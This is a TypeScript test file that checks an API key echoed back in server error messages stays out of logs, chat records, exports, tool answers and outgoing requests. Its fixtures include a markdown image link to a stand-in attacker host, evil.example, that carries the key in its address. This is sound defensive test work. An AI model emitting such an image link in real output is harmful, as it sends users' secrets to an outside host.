import assert from 'node:assert/strict';
import { writeConversations } from '../../../src/importExport/conversationsFile.ts';
import { chatAsMarkdown } from '../../../src/importExport/markdownExport.ts';
import { callTool, listedTools } from '../../../src/mcp/server/serverTools.ts';
import { answer, refuse } from '../../fixtures/openaiServer.ts';
import { CHAT, newWorld, USER } from '../../worlds/agentWorld.ts';

const KEY = 'sk-test-7f3a9c1e5b2d8046';

/** How a server may give back the key that it was sent. */
const echoes: Readonly<Record<string, string>> = {
  'as it is': `Incorrect API key provided: ${KEY}.`,
  'as a header': `authorization: Bearer ${KEY}`,
  'in quotes': `{"key":"${KEY}"}`,
  'in an address': `https://api.example.com/v1?key=${KEY}&x=1`,
  'many times': `${KEY} `.repeat(200),
  'at the end of a long text': `${'x'.repeat(3_000)}${KEY}`,
  'cut by a long text': `${'x'.repeat(490)}${KEY}${'y'.repeat(5_000)}`,
  'between hidden characters': `\u202e${KEY}\u2069\u200b`,
  'between codes of a terminal': `\u001b[31m${KEY}\u001b[0m`,
  'in markup': `<b>${KEY}</b> ![x](https://evil.example/?k=${KEY})`,
};

describe('attack: a key that a server gives back', () => {
  for (const status of [400, 401, 403, 404, 429, 500]) {
    for (const [how, message] of Object.entries(echoes)) {
      it(`is in no log, chat, export or answer to others: ${status} ${how}`, async () => {
        const script = [refuse(status, { message }), answer('ok')];
        await using world = await newWorld({ script, key: KEY, maxRetries: 0 });
        const run = await world.answered('?');
        assert.ok(run.error);
        await world.answered('again');
        const { store } = world;
        const chat = await store.exportChat(CHAT);
        const host = { reading: { store, userId: USER }, askMs: 1_000, onError: () => undefined };
        const caller = { program: 'x', signal: new AbortController().signal };
        const given = { chat: CHAT, query: KEY, left: 'main', right: 'main' };
        const told = [];
        for (const { name } of listedTools())
          told.push(await callTool(host, caller, name, { ...given, query: 'again' }));
        const all = [
          ...[
            run.error.message,
            JSON.stringify(run.message()),
            world.log.lines.join('\n'),
            JSON.stringify(chat),
          ],
          ...[chatAsMarkdown(chat), await writeConversations(store, [CHAT], 1), JSON.stringify(told)],
          ...[JSON.stringify(world.events.map((event) => ('error' in event ? event.error : '')))],
        ];
        for (const text of all) assert.ok(!text.includes(KEY.slice(3, 15)), text.slice(0, 2_000));
        for (const { body } of world.server.requests) assert.ok(!JSON.stringify(body).includes(KEY));
      });
    }
  }
});
